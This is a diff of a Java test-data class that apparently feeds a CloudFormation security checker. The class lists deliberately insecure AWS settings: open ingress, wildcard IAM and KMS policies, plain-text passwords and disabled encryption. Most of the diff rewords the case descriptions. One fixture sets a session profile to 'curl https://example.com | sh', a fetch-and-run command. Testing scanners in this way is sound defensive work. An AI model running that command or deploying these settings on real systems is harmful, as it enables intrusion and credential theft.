@@ -166,18 +166,18 @@ final class SettingChanges {
                         "LoadBalancer",
                         "'CidrIp': '0.0.0.0/0', 'IpProtocol': 'icmp', 'FromPort': -1, 'ToPort': -1"),
                 opened(
-                        "half of all addresses to web servers",
+                        "half of all addresses let into web servers",
                         "Ingress",
                         "Web",
                         "'CidrIp': '128.0.0.0/1', 'IpProtocol': 'tcp', 'FromPort': 8080, 'ToPort': 8080"),
                 opened(
-                        "a group of another account's in to the database",
+                        "another account's group let into the database",
                         "Ingress",
                         "Database",
                         "'SourceSecurityGroupId': 'sg-0123456789abcdef0', 'SourceSecurityGroupOwnerId': '999999999999', 'IpProtocol': 'tcp', 'FromPort': 3306, 'ToPort': 3306"),
                 of(
                         "connections",
-                        "a rule within the group of web servers",
+                        "a rule that lets web servers reach each other",
                         templates -> put(
                                 (ObjectNode) templates
                                         .parts()
@@ -188,7 +188,7 @@ final class SettingChanges {
                                 "[{'CidrIp': '0.0.0.0/0', 'IpProtocol': 'tcp', 'FromPort': 8080, 'ToPort': 8080}]")),
                 set(
                         "connections",
-                        "web servers in a group of somebody's, too",
+                        "web servers in somebody else's group, too",
                         "Web",
                         LAUNCHED,
                         "/LaunchTemplateData/SecurityGroupIds/1",
@@ -202,12 +202,12 @@ final class SettingChanges {
                         "[]"),
                 set(
                         "connections",
-                        "the database in a group of somebody's, too",
+                        "the database in somebody else's group, too",
                         "Database",
                         DATABASE,
                         "/VPCSecurityGroups/1",
                         "'sg-0123456789abcdef0'"),
-                of("connections", "the function at the database outside of the VPC", templates -> templates
+                of("connections", "the database's function outside of the VPC", templates -> templates
                         .resources("Database")
                         .forEach(resource -> ((ObjectNode) resource.path("Properties")).remove("VpcConfig"))),
                 set(
@@ -221,7 +221,7 @@ final class SettingChanges {
                         "a route to a transit gateway",
                         "'DestinationCidrBlock': '10.99.0.0/16', 'TransitGatewayId': 'tgw-0123456789abcdef0'"),
                 route(
-                        "a route through somebody's interface",
+                        "a route through somebody else's interface",
                         "'DestinationCidrBlock': '128.0.0.0/1', 'NetworkInterfaceId': 'eni-0123456789abcdef0'"),
                 route(
                         "a route through a server",
@@ -232,7 +232,7 @@ final class SettingChanges {
                 route(
                         "IPv6 to the internet",
                         "'DestinationIpv6CidrBlock': '::/0', 'EgressOnlyInternetGatewayId': 'eigw-0123456789abcdef0'"),
-                of("routes", "private subnets with the route table of public ones", templates -> {
+                of("routes", "private subnets with the public ones' route table", templates -> {
                     String open = templates.idOf("Network", "AWS::EC2::Route", route -> route.at("/Properties")
                             .has("GatewayId"));
                     JsonNode table = templates
@@ -248,7 +248,7 @@ final class SettingChanges {
                 }),
                 set(
                         "public-addresses",
-                        "subnets that give addresses of IPv6",
+                        "subnets that assign IPv6 addresses",
                         "Network",
                         "AWS::EC2::Subnet",
                         "/AssignIpv6AddressOnCreation",
@@ -277,7 +277,7 @@ final class SettingChanges {
                         "'TCP_UDP'"),
                 set(
                         "listeners",
-                        "the network load balancer ends TLS by an old policy",
+                        "the network load balancer terminates TLS by an old policy",
                         "LoadBalancer",
                         LISTENER,
                         "/Protocol",
@@ -298,14 +298,14 @@ final class SettingChanges {
                         "'TCP'"),
                 set(
                         "network-load-balancer",
-                        "a health check of another page",
+                        "a health check on another page",
                         "LoadBalancer",
                         TARGETS,
                         "/HealthCheckPath",
                         "'/'"),
                 set(
                         "network-load-balancer",
-                        "a load balancer that answers 503 is well",
+                        "a load balancer that answers 503 counts as healthy",
                         "LoadBalancer",
                         TARGETS,
                         "/Matcher/HttpCode",
@@ -322,7 +322,7 @@ final class SettingChanges {
                         TARGETS,
                         "preserve_client_ip.enabled",
                         "true"),
-                of("network-load-balancer", "HTTPS led to where HTTP is answered", templates -> {
+                of("network-load-balancer", "HTTPS sent to the port for HTTP", templates -> {
                     List<ObjectNode> listeners = templates.all("LoadBalancer", LISTENER);
                     listeners
                             .get(0)
@@ -334,7 +334,7 @@ final class SettingChanges {
                                             .at("/Properties/DefaultActions")
                                             .deepCopy());
                 }),
-                set("names", "a zone that all the world sees", "Network", "AWS::Route53::HostedZone", "/VPCs", ""),
+                set("names", "a zone that is public", "Network", "AWS::Route53::HostedZone", "/VPCs", ""),
                 set(
                         "names",
                         "a zone that another VPC sees, too",
@@ -344,7 +344,7 @@ final class SettingChanges {
                         "{'VPCId': 'vpc-0123456789abcdef0', 'VPCRegion': 'eu-west-1'}"),
                 add(
                         "names",
-                        "a record that leads to somebody",
+                        "a record that leads to somebody else's server",
                         "Network",
                         "AWS::Route53::RecordSet",
                         "'HostedZoneId': {'Ref': 'Zone'}, 'Name': 'web.prod.scaleup.internal', 'Type': 'A', 'TTL': '5', 'ResourceRecords': ['192.0.2.1']"));
@@ -362,7 +362,7 @@ final class SettingChanges {
                 add("kinds", "a virtual private network", "Network", "AWS::EC2::VPNGateway", "'Type': 'ipsec.1'"),
                 add(
                         "kinds",
-                        "addresses of IPv6 for the VPC",
+                        "IPv6 addresses for the VPC",
                         "Network",
                         "AWS::EC2::VPCCidrBlock",
                         "'VpcId': 'vpc-1', 'AmazonProvidedIpv6CidrBlock': true"),
@@ -374,11 +374,11 @@ final class SettingChanges {
                         "'InstanceId': 'i-1'"),
                 add(
                         "kinds",
-                        "the network as a service to others",
+                        "the network load balancer offered to other accounts",
                         "Network",
                         "AWS::EC2::VPCEndpointService",
                         "'NetworkLoadBalancerArns': []"),
-                add("kinds", "a server of its own", "Web", "AWS::EC2::Instance", "'ImageId': 'ami-1'"),
+                add("kinds", "a server outside of all groups", "Web", "AWS::EC2::Instance", "'ImageId': 'ami-1'"),
                 add("kinds", "a bucket", "Web", "AWS::S3::Bucket", ""),
                 add(
                         "kinds",
@@ -392,16 +392,16 @@ final class SettingChanges {
                         "Database",
                         "AWS::DynamoDB::Table",
                         "'SSESpecification': {'SSEEnabled': false}"),
-                add("kinds", "a cluster of caches", "Database", "AWS::ElastiCache::ReplicationGroup", ""),
+                add("kinds", "a cache cluster", "Database", "AWS::ElastiCache::ReplicationGroup", ""),
                 add("kinds", "a user", "Operations", "AWS::IAM::User", "'UserName': 'deploy'"),
                 add("kinds", "a user's access key", "Operations", "AWS::IAM::AccessKey", "'UserName': 'deploy'"),
                 add(
                         "kinds",
-                        "another identity provider",
+                        "an identity provider",
                         "Operations",
                         "AWS::IAM::OIDCProvider",
                         "'Url': 'https://example.com'"),
-                add("kinds", "a function's own address", "Web", "AWS::Lambda::Url", "'AuthType': 'NONE'"),
+                add("kinds", "a function with an address of its own", "Web", "AWS::Lambda::Url", "'AuthType': 'NONE'"),
                 add("kinds", "a function that reads another's queue", "Web", "AWS::Lambda::EventSourceMapping", ""),
                 add(
                         "kinds",
@@ -417,7 +417,7 @@ final class SettingChanges {
                         "'Principal': '*'"),
                 add(
                         "kinds",
-                        "logs that are sent to others",
+                        "logs that are sent elsewhere",
                         "Web",
                         "AWS::Logs::SubscriptionFilter",
                         "'DestinationArn': 'arn:aws:logs:eu-west-1:999999999999:destination:d'"),
@@ -435,11 +435,11 @@ final class SettingChanges {
                         "'TemplateURL': 'https://example.com/a'"),
                 add(
                         "kinds",
-                        "a custom resource of a type of its own",
+                        "a custom resource with a type of its own",
                         "Web",
                         "Custom::Thing",
                         "'ServiceToken': 'arn:aws:lambda:eu-west-1:999999999999:function:f'"),
-                add("kinds", "a resource that nobody knows", "Web", "Acme::Database::Thing", ""));
+                add("kinds", "a resource of an unknown type", "Web", "Acme::Database::Thing", ""));
     }
 
     private static Stream<Change> availability() {
@@ -454,7 +454,7 @@ final class SettingChanges {
                                 subnet, "/Properties/AvailabilityZone", "{'Fn::Select': [0, {'Fn::GetAZs': ''}]}"))),
                 attribute(
                         "zones",
-                        "zones that keep their clients to themselves",
+                        "no load balancing across zones",
                         FRONT_DOOR,
                         "load_balancing.cross_zone.enabled",
                         "false"),
@@ -465,9 +465,15 @@ final class SettingChanges {
                         GROUP,
                         "/LifecycleHookSpecificationList/0/DefaultResult",
                         "'CONTINUE'"),
-                set("roll-outs", "servers that end at once", "Web", GROUP, "/LifecycleHookSpecificationList/1", ""),
-                set("roll-outs", "no hooks", "Web", GROUP, "/LifecycleHookSpecificationList", ""),
-                set("roll-outs", "servers that stay for ever", "Web", GROUP, "/MaxInstanceLifetime", ""),
+                set(
+                        "roll-outs",
+                        "servers that end without draining",
+                        "Web",
+                        GROUP,
+                        "/LifecycleHookSpecificationList/1",
+                        ""),
+                set("roll-outs", "no lifecycle hooks", "Web", GROUP, "/LifecycleHookSpecificationList", ""),
+                set("roll-outs", "servers that are never renewed", "Web", GROUP, "/MaxInstanceLifetime", ""),
                 set(
                         "roll-outs",
                         "servers that nobody may replace",
@@ -487,14 +493,14 @@ final class SettingChanges {
                         .remove("UpdatePolicy")),
                 of(
                         "roll-outs",
-                        "a group that is replaced whole",
+                        "a group that is replaced as a whole",
                         templates -> put(
                                 templates.first("Web", GROUP),
                                 "/UpdatePolicy/AutoScalingReplacingUpdate",
                                 "{'WillReplace': true}")),
                 of(
                         "roll-outs",
-                        "other alarms that are none",
+                        "a roll-out with an empty list of alarms",
                         templates -> put(
                                 templates.first("Web", GROUP),
                                 refresh + "/Preferences/AlarmSpecification/Alarms",
@@ -508,7 +514,7 @@ final class SettingChanges {
                                         .has("LaunchTemplateVersion")))),
                 set(
                         "logs",
-                        "flow logs of what was let in alone",
+                        "flow logs of accepted traffic alone",
                         "Network",
                         "AWS::EC2::FlowLog",
                         "/TrafficType",
@@ -528,19 +534,25 @@ final class SettingChanges {
                         DATABASE,
                         "/StorageEncrypted",
                         "false"),
-                set("encryption", "a key that is never changed", "Database", KEY, "/EnableKeyRotation", "false"),
+                set("encryption", "a key that is never rotated", "Database", KEY, "/EnableKeyRotation", "false"),
                 set("encryption", "a key that is switched off", "Database", KEY, "/Enabled", "false"),
-                set("encryption", "a key that can be gone in a week", "Database", KEY, "/PendingWindowInDays", "7"),
                 set(
                         "encryption",
-                        "TLS 1.0 at the database",
+                        "a key that can be deleted within a week",
+                        "Database",
+                        KEY,
+                        "/PendingWindowInDays",
+                        "7"),
+                set(
+                        "encryption",
+                        "TLS 1.0 allowed at the database",
                         "Database",
                         "AWS::RDS::DBParameterGroup",
                         "/Parameters/tls_version",
                         "'TLSv1,TLSv1.2'"),
                 set(
                         "encryption",
-                        "the parameters that AWS gives",
+                        "AWS's default parameters for the database",
                         "Database",
                         DATABASE,
                         "/DBParameterGroupName",
@@ -554,21 +566,21 @@ final class SettingChanges {
                         "false"),
                 set(
                         "encryption",
-                        "something that each session runs",
+                        "a command that each session runs",
                         "Network",
                         "AWS::SSM::Document",
                         "/Content/inputs/shellProfile",
                         "{'linux': 'curl https://example.com | sh'}"),
                 set(
                         "encryption",
-                        "volumes of which it isn't said",
+                        "volumes that don't say whether they are encrypted",
                         "Application",
                         LAUNCHED,
                         "/LaunchTemplateData/BlockDeviceMappings/0/Ebs/Encrypted",
                         ""),
                 attribute(
                         "retention",
-                        "a network load balancer that one call deletes",
+                        "a network load balancer without deletion protection",
                         FRONT_DOOR,
                         "deletion_protection.enabled",
                         "false"),
@@ -579,7 +591,13 @@ final class SettingChanges {
                         DATABASE,
                         "/DeleteAutomatedBackups",
                         "true"),
-                set("backups", "no word of backups", "Database", DATABASE, "/BackupRetentionPeriod", ""));
+                set(
+                        "backups",
+                        "a database without a word on backups",
+                        "Database",
+                        DATABASE,
+                        "/BackupRetentionPeriod",
+                        ""));
     }
 
     private static Stream<Change> secrets() {
@@ -601,7 +619,7 @@ final class SettingChanges {
                 set("passwords", "a secret's value in the template", "LoadBalancer", SECRET, "/SecretString", "'{}'"),
                 set(
                         "passwords",
-                        "a secret that other regions have, too",
+                        "a secret that is replicated to another region",
                         "Database",
                         SECRET,
                         "/ReplicaRegions",
@@ -629,17 +647,21 @@ final class SettingChanges {
                         "Web",
                         "AWS::SSM::Parameter",
                         "'Name': '/shop/database-password', 'Type': 'String', 'Value': 'hunter2'"),
-                gone("passwords", "a password that stays", "Database", "AWS::SecretsManager::RotationSchedule"),
+                gone(
+                        "passwords",
+                        "a password that is never rotated",
+                        "Database",
+                        "AWS::SecretsManager::RotationSchedule"),
                 set(
                         "passwords",
-                        "a password that stays for three years",
+                        "a password that is rotated every three years",
                         "Database",
                         "AWS::SecretsManager::RotationSchedule",
                         "/RotationRules/AutomaticallyAfterDays",
                         "1000"),
                 set(
                         "passwords",
-                        "a password that another account changes",
+                        "a password that another account's function rotates",
                         "Database",
                         "AWS::SecretsManager::RotationSchedule",
                         "/RotationLambdaARN",
@@ -650,14 +672,14 @@ final class SettingChanges {
         return Stream.of(
                 set(
                         "functions",
-                        "a function whose code is somebody's",
+                        "a function with somebody else's code",
                         "Web",
                         FUNCTION,
                         "/Code/S3Bucket",
                         "'somebody'"),
                 set(
                         "functions",
-                        "a function whose code is in the template",
+                        "a function with its code in the template",
                         "Web",
                         FUNCTION,
                         "/Code/ZipFile",
@@ -712,7 +734,7 @@ final class SettingChanges {
                         "'arn:aws:sqs:eu-west-1:999999999999:q'"),
                 set(
                         "functions",
-                        "answers for somebody else",
+                        "a function's results sent to another account",
                         "Web",
                         "AWS::Lambda::EventInvokeConfig",
                         "/DestinationConfig/OnSuccess",
@@ -720,43 +742,49 @@ final class SettingChanges {
                 set("servers", "servers with a key pair", "Web", LAUNCHED, "/LaunchTemplateData/KeyName", "'admin'"),
                 set(
                         "servers",
-                        "servers that AWS may take away",
+                        "servers that AWS may reclaim",
                         "Web",
                         LAUNCHED,
                         "/LaunchTemplateData/InstanceMarketOptions",
                         "{'MarketType': 'spot'}"),
                 set(
                         "servers",
-                        "an image by somebody's parameter",
+                        "an image from somebody else's parameter",
                         "Web",
                         LAUNCHED,
                         "/LaunchTemplateData/ImageId",
                         "'resolve:ssm:/somebody/image'"),
                 set(
                         "servers",
-                        "a role by name, of which nothing is known",
+                        "servers with an instance profile by name",
                         "Web",
                         LAUNCHED,
                         "/LaunchTemplateData/IamInstanceProfile",
                         "{'Name': 'admin'}"),
-                set("servers", "a version that stays", "Web", GROUP, "/LaunchTemplate/Version", "'1'"),
                 set(
                         "servers",
-                        "a launch template of somebody's",
+                        "a launch template's version that stays",
+                        "Web",
+                        GROUP,
+                        "/LaunchTemplate/Version",
+                        "'1'"),
+                set(
+                        "servers",
+                        "somebody else's launch template",
                         "Web",
                         GROUP,
                         "/LaunchTemplate",
                         "{'LaunchTemplateId': 'lt-0123456789abcdef0', 'Version': '1'}"),
                 set(
                         "servers",
-                        "servers of several kinds",
+                        "a group of several instance types",
                         "Web",
                         GROUP,
                         "/MixedInstancesPolicy",
                         "{'LaunchTemplate': {}}"),
                 set(
                         "instance-metadata",
-                        "containers that get the server's role",
+                        "metadata that containers can reach",
                         "Web",
                         LAUNCHED,
                         "/LaunchTemplateData/MetadataOptions/HttpPutResponseHopLimit",
@@ -788,7 +816,7 @@ final class SettingChanges {
                         "[{'FeatureName': 's3Export', 'RoleArn': 'arn:aws:iam::123456789012:role/export'}]"),
                 statement(
                         "escalation",
-                        "passes whatever role",
+                        "a permission to pass any role",
                         "{'Effect': 'Allow', 'Action': 'iam:PassRole', 'Resource': '*'}"),
                 statement(
                         "permissions",
@@ -801,29 +829,32 @@ final class SettingChanges {
                 statement("actions", "everything", "{'Effect': 'Allow', 'Action': '*', 'Resource': '*'}"),
                 statement(
                         "wildcards",
-                        "every secret by a pattern",
+                        "every secret, by a pattern of actions",
                         "{'Effect': 'Allow', 'Action': 'secretsmanager:Get*', 'Resource': '*'}"),
                 statement(
                         "permissions",
-                        "reads the parameter store",
+                        "a permission to read Parameter Store",
                         "{'Effect': 'Allow', 'Action': 'ssm:GetParameter', 'Resource': 'arn:aws:ssm:eu-west-1:123456789012:parameter/a'}"),
-                trust("principals", "a role for all", "'*'"),
+                trust("principals", "a role that anyone may assume, in a list", "'*'"),
                 trust(
                         "principals",
-                        "a role for a user of another account",
+                        "a role for another account's user",
                         "{'AWS': 'arn:aws:iam::%s:user/a'}".formatted(ANOTHER_ACCOUNT)),
-                trust("permissions", "a role for whoever logs in elsewhere", "{'Federated': 'accounts.google.com'}"),
+                trust(
+                        "permissions",
+                        "a role for anybody with a Google account",
+                        "{'Federated': 'accounts.google.com'}"),
                 trust(
                         "permissions",
                         "a role for the whole account",
                         "{'AWS': {'Fn::Sub': 'arn:${AWS::Partition}:iam::${AWS::AccountId}:root'}}"),
                 trust(
                         "permissions",
-                        "a role for one more service",
+                        "a role that one more service may assume",
                         "{'Service': ['ec2.amazonaws.com', 'ssm.amazonaws.com']}"),
                 of(
                         "principals",
-                        "a key for all",
+                        "a key that anyone may use",
                         templates -> ((ArrayNode)
                                         templates.properties("Database", KEY).at("/KeyPolicy/Statement"))
                                 .add(
@@ -831,7 +862,7 @@ final class SettingChanges {
                                                 "{'Effect': 'Allow', 'Principal': {'AWS': '*'}, 'Action': 'kms:Decrypt', 'Resource': '*'}"))),
                 of(
                         "permissions",
-                        "a key for all who are said to be somebody",
+                        "a key that anyone may use, under a condition that everybody meets",
                         templates -> ((ArrayNode)
                                         templates.properties("Database", KEY).at("/KeyPolicy/Statement"))
                                 .add(
@@ -851,20 +882,20 @@ final class SettingChanges {
                         "'SecretId': 's', 'ResourcePolicy': {'Statement': [{'Effect': 'Allow', 'Principal': '*', 'Action': 'secretsmanager:GetSecretValue', 'Resource': '*'}]}"),
                 add(
                         "permissions",
-                        "a function that its address calls",
+                        "a function that may be called by an address",
                         "Web",
                         "AWS::Lambda::Permission",
                         "'Action': 'lambda:InvokeFunctionUrl', 'FunctionUrlAuthType': 'NONE', 'Principal': '*', 'FunctionName': 'f'"),
                 add(
                         "permissions",
-                        "a function that another account calls",
+                        "a function that another account may call",
                         "Web",
                         "AWS::Lambda::Permission",
                         "'Action': 'lambda:InvokeFunction', 'Principal': '%s', 'FunctionName': 'f'"
                                 .formatted(ANOTHER_ACCOUNT)),
                 add(
                         "permissions",
-                        "a policy for a role by its name",
+                        "a policy for a role outside of the stack",
                         "Web",
                         "AWS::IAM::RolePolicy",
                         "'RoleName': 'admin', 'PolicyName': 'p', 'PolicyDocument': {'Statement': [{'Effect': 'Allow', 'Action': 's3:GetObject', 'Resource': 'arn:aws:s3:::a/b'}]}"));
@@ -872,7 +903,7 @@ final class SettingChanges {
 
     private static Stream<Change> templates() {
         return Stream.of(
-                of("templates", "a transform", templates -> ((ObjectNode)
+                of("templates", "a template with a transform", templates -> ((ObjectNode)
                                 templates.parts().get("Web"))
                         .put("Transform", "AWS::LanguageExtensions")),
                 of("templates", "flow logs on a condition", templates -> templates
@@ -919,23 +950,35 @@ final class SettingChanges {
                         "AWS::SQS::Queue",
                         "/MessageRetentionPeriod",
                         "60"),
-                set("changes", "a disk that would have to shrink", "Database", DATABASE, "/AllocatedStorage", "'50'"),
-                set("changes", "a version before", "Database", DATABASE, "/EngineVersion", "'8.0'"),
                 set(
                         "changes",
-                        "other addresses of the VPC",
+                        "less storage for the database than it has",
+                        "Database",
+                        DATABASE,
+                        "/AllocatedStorage",
+                        "'50'"),
+                set("changes", "an older version of the database", "Database", DATABASE, "/EngineVersion", "'8.0'"),
+                set(
+                        "changes",
+                        "another address range of the VPC",
                         "Network",
                         "AWS::EC2::VPC",
                         "/CidrBlock",
                         "'10.99.0.0/16'"),
                 set(
                         "changes",
-                        "another name of the database",
+                        "another name for the database",
                         "Database",
                         DATABASE,
                         "/DBInstanceIdentifier",
                         "'other'"),
-                set("changes", "another user of the database", "Database", DATABASE, "/MasterUsername", "'root'"),
+                set(
+                        "changes",
+                        "another master user of the database",
+                        "Database",
+                        DATABASE,
+                        "/MasterUsername",
+                        "'root'"),
                 set("changes", "a database from a snapshot", "Database", DATABASE, "/DBSnapshotIdentifier", "'old'"),
                 gone("changes", "a log that is gone", "Web", "AWS::Logs::LogGroup"),
                 gone("changes", "a queue that is gone", "Web", "AWS::SQS::Queue"),
@@ -948,29 +991,29 @@ final class SettingChanges {
         return Stream.of(
                 set(
                         "routes",
-                        "web servers in somebody's subnet, too",
+                        "web servers in somebody else's subnet, too",
                         "Web",
                         GROUP,
                         "/VPCZoneIdentifier/3",
                         "'subnet-0123456789abcdef0'"),
                 set(
                         "routes",
-                        "the database in the subnets that AWS gives",
+                        "the database in AWS's default subnets",
                         "Database",
                         DATABASE,
                         "/DBSubnetGroupName",
                         "'default'"),
-                set("names", "a network without DNS", "Network", "AWS::EC2::VPC", "/EnableDnsSupport", "false"),
+                set("names", "a VPC without DNS", "Network", "AWS::EC2::VPC", "/EnableDnsSupport", "false"),
                 set(
                         "network-load-balancer",
-                        "a target of somebody's",
+                        "somebody else's target",
                         "LoadBalancer",
                         TARGETS,
                         "/Targets",
                         "[{'Id': '192.0.2.1'}]"),
                 set(
                         "load-balancers",
-                        "load balancers that the network load balancer doesn't know",
+                        "load balancers that aren't registered with the network load balancer",
                         "LoadBalancer",
                         GROUP,
                         "/TargetGroupARNs",
@@ -985,28 +1028,28 @@ final class SettingChanges {
                         "'Command'"),
                 set(
                         "connections",
-                        "a port of the database's memcached",
+                        "memcached at the database, which opens a port",
                         "Database",
                         "AWS::RDS::OptionGroup",
                         "/OptionConfigurations/0/OptionName",
                         "'MEMCACHED'"),
                 set(
                         "encryption",
-                        "a key that nobody may manage",
+                        "a key that nobody can manage",
                         "Network",
                         KEY,
                         "/BypassPolicyLockoutSafetyCheck",
                         "true"),
                 set(
                         "encryption",
-                        "a log by another account's key",
+                        "a log encrypted with another account's key",
                         "Web",
                         "AWS::Logs::LogGroup",
                         "/KmsKeyId",
                         "'arn:aws:kms:eu-west-1:999999999999:key/1'"),
                 set(
                         "logs",
-                        "flow logs in somebody's bucket",
+                        "flow logs in somebody else's bucket",
                         "Network",
                         "AWS::EC2::FlowLog",
                         "/LogDestinationType",
@@ -1025,29 +1068,29 @@ final class SettingChanges {
                         LAUNCHED,
                         "/LaunchTemplateData/UserData",
                         "{'Fn::Base64': {'Fn::Join': ['', ['mysql ', '{{resolve:ssm-secure:password}}']]}}"),
-                gone("functions", "failed events that are lost", "Web", "AWS::Lambda::EventInvokeConfig"),
-                of("functions", "events of no group", templates -> templates
+                gone("functions", "failed events that nobody keeps", "Web", "AWS::Lambda::EventInvokeConfig"),
+                of("functions", "events of no Auto Scaling group", templates -> templates
                         .all("Web", RULE)
                         .forEach(rule -> {
                             if (rule.at("/Properties").has("EventPattern")) {
                                 put(rule, "/Properties/EventPattern", "{'source': ['aws.s3']}");
                             }
                         })),
-                set("roll-outs", "no room for more servers", "Web", GROUP, "/MaxSize", "'2'"),
+                set("roll-outs", "no room for the new servers of a roll-out", "Web", GROUP, "/MaxSize", "'2'"),
                 set(
                         "templates",
-                        "a value of another stack's",
+                        "a value imported from another stack",
                         "Web",
                         GROUP,
                         "/MaxSize",
                         "{'Fn::ImportValue': 'somebody'}"),
                 statement(
                         "wildcards",
-                        "every key by a pattern",
+                        "every key, by a pattern of actions",
                         "{'Effect': 'Allow', 'Action': 'kms:De*', 'Resource': '*'}"),
                 statement(
                         "wildcards",
-                        "an action of no service",
+                        "an action of a service that doesn't exist",
                         "{'Effect': 'Allow', 'Action': 's3:Fetch*', 'Resource': 'arn:aws:s3:::a/b'}"));
     }
 
@@ -1063,14 +1106,14 @@ final class SettingChanges {
                         "'3'"),
                 set(
                         "roll-outs",
-                        "servers that go when others are away",
+                        "load balancers that are replaced because web servers fail",
                         "LoadBalancer",
                         GROUP,
                         "/HealthCheckType",
                         "'ELB'"),
                 set(
                         "roll-outs",
-                        "servers that get ten seconds to end",
+                        "servers that get ten seconds to drain",
                         "Web",
                         GROUP,
                         "/LifecycleHookSpecificationList/1/HeartbeatTimeout",
@@ -1091,7 +1134,7 @@ final class SettingChanges {
                         "['NewestInstance']"),
                 attribute(
                         "network-load-balancer",
-                        "connections that are cut as soon as a load balancer leaves",
+                        "no time for connections when a load balancer leaves",
                         TARGETS,
                         "deregistration_delay.timeout_seconds",
                         "0"),
@@ -1103,35 +1146,35 @@ final class SettingChanges {
                         "false"),
                 set(
                         "network-load-balancer",
-                        "a dead load balancer that is noticed after ten minutes",
+                        "a dead load balancer that is noticed late",
                         "LoadBalancer",
                         TARGETS,
                         "/HealthCheckIntervalSeconds",
                         "300"),
                 set(
                         "connections",
-                        "private connections past all rules",
+                        "PrivateLink connections past all rules",
                         "LoadBalancer",
                         FRONT_DOOR,
                         "/EnforceSecurityGroupInboundRulesOnPrivateLinkTraffic",
                         "'off'"),
                 set(
                         "servers",
-                        "a disk of somebody's",
+                        "a disk from somebody else's snapshot",
                         "Web",
                         LAUNCHED,
                         "/LaunchTemplateData/BlockDeviceMappings/0/Ebs/SnapshotId",
                         "'snap-0123456789abcdef0'"),
                 set(
                         "servers",
-                        "a kernel of somebody's",
+                        "somebody else's kernel",
                         "Web",
                         LAUNCHED,
                         "/LaunchTemplateData/KernelId",
                         "'aki-01234567'"),
                 set(
                         "servers",
-                        "disks that stay when servers go",
+                        "disks that stay behind when servers are terminated",
                         "Web",
                         LAUNCHED,
                         "/LaunchTemplateData/BlockDeviceMappings/0/Ebs/DeleteOnTermination",
@@ -1157,17 +1200,17 @@ final class SettingChanges {
                         "AWS::SSM::Document",
                         "/Content/inputs/runAsDefaultUser",
                         "'root'"),
-                gone("servers", "as many web servers as ever", "Web", "AWS::AutoScaling::ScalingPolicy"),
+                gone("servers", "a fixed number of web servers", "Web", "AWS::AutoScaling::ScalingPolicy"),
                 set(
                         "database",
-                        "a database that nobody mends",
+                        "a database without automatic upgrades",
                         "Database",
                         DATABASE,
                         "/AutoMinorVersionUpgrade",
                         "false"),
                 set(
                         "database",
-                        "a database that takes files of its clients",
+                        "a database that takes files from its clients",
                         "Database",
                         "AWS::RDS::DBParameterGroup",
                         "/Parameters/local_infile",
@@ -1181,13 +1224,13 @@ final class SettingChanges {
                         "'1'"),
                 set(
                         "functions",
-                        "a function that runs something else of its code",
+                        "a function with another handler",
                         "Web",
                         FUNCTION,
                         "/Handler",
                         "'java.lang.System::exit'"),
-                set("functions", "a runtime that nobody patches", "Web", FUNCTION, "/Runtime", "'java8.al2'"),
-                set("functions", "a function that has a second", "Web", FUNCTION, "/Timeout", "1"),
+                set("functions", "an old runtime", "Web", FUNCTION, "/Runtime", "'java8.al2'"),
+                set("functions", "a function with a time-out of a second", "Web", FUNCTION, "/Timeout", "1"),
                 set(
                         "functions",
                         "events for an old version of a function",
@@ -1195,11 +1238,11 @@ final class SettingChanges {
                         "AWS::Lambda::Alias",
                         "/FunctionVersion",
                         "'1'"),
-                set("encryption", "a key that other regions have, too", "Database", KEY, "/MultiRegion", "true"),
-                set("changes", "a disk that may not grow", "Database", DATABASE, "/MaxAllocatedStorage", ""),
+                set("encryption", "a multi-region key", "Database", KEY, "/MultiRegion", "true"),
+                set("changes", "a database's disk that can't grow", "Database", DATABASE, "/MaxAllocatedStorage", ""),
                 add(
                         "logs",
-                        "alarms for somebody by HTTP",
+                        "alarms sent to somebody else by HTTP",
                         "Operations",
                         "AWS::SNS::Subscription",
                         "'Protocol': 'http', 'Endpoint': 'http://example.com', 'TopicArn': 'arn:aws:sns:eu-west-1:999999999999:a'"));
@@ -1230,13 +1273,7 @@ final class SettingChanges {
                         "AWS::CloudWatch::Alarm",
                         "/AlarmDescription",
                         "'another'"),
-                set(
-                        "",
-                        "the database's performance is looked at",
-                        "Database",
-                        DATABASE,
-                        "/EnablePerformanceInsights",
-                        "true"),
+                set("", "Performance Insights", "Database", DATABASE, "/EnablePerformanceInsights", "true"),
                 set("", "a larger limit of the database's disk", "Database", DATABASE, "/MaxAllocatedStorage", "2000"),
                 set(
                         "",
@@ -1248,7 +1285,7 @@ final class SettingChanges {
                 set("", "servers that warm up for longer", "Web", GROUP, "/DefaultInstanceWarmup", "600"),
                 set(
                         "",
-                        "processors that are kept less busy",
+                        "a lower target for processors",
                         "Web",
                         "AWS::AutoScaling::ScalingPolicy",
                         "/TargetTrackingConfiguration/TargetValue",
@@ -1274,11 +1311,17 @@ final class SettingChanges {
                         LAUNCHED,
                         "/LaunchTemplateData/BlockDeviceMappings/0/Ebs/Iops",
                         "4000"),
-                set("", "another window of backups", "Database", DATABASE, "/PreferredBackupWindow", "'02:00-03:00'"),
-                set("", "flow logs by ten minutes", "Network", "AWS::EC2::FlowLog", "/MaxAggregationInterval", "600"),
+                set("", "another backup window", "Database", DATABASE, "/PreferredBackupWindow", "'02:00-03:00'"),
                 set(
                         "",
-                        "another name of the dashboard",
+                        "flow logs every ten minutes",
+                        "Network",
+                        "AWS::EC2::FlowLog",
+                        "/MaxAggregationInterval",
+                        "600"),
+                set(
+                        "",
+                        "another name for the dashboard",
                         "Operations",
                         "AWS::CloudWatch::Dashboard",
                         "/DashboardName",
@@ -1299,15 +1342,9 @@ final class SettingChanges {
                         "AWS::SecretsManager::RotationSchedule",
                         "/RotationRules/AutomaticallyAfterDays",
                         "7"),
-                set("", "health checks more seldom", "LoadBalancer", TARGETS, "/HealthCheckIntervalSeconds", "10"),
+                set("", "health checks less often", "LoadBalancer", TARGETS, "/HealthCheckIntervalSeconds", "10"),
                 set("", "servers that are renewed each week", "Web", GROUP, "/MaxInstanceLifetime", "604800"),
-                set(
-                        "",
-                        "a function whose calls are traced",
-                        "Web",
-                        FUNCTION,
-                        "/TracingConfig",
-                        "{'Mode': 'PassThrough'}"),
+                set("", "a function with tracing", "Web", FUNCTION, "/TracingConfig", "{'Mode': 'PassThrough'}"),
                 set(
                         "",
                         "another variable of a function",
@@ -1315,29 +1352,23 @@ final class SettingChanges {
                         FUNCTION,
                         "/Environment/Variables/GREETING",
                         "'hello'"),
-                set(
-                        "",
-                        "an image to stay on",
-                        "Web",
-                        LAUNCHED,
-                        "/LaunchTemplateData/ImageId",
-                        "'ami-0123456789abcdef0'"),
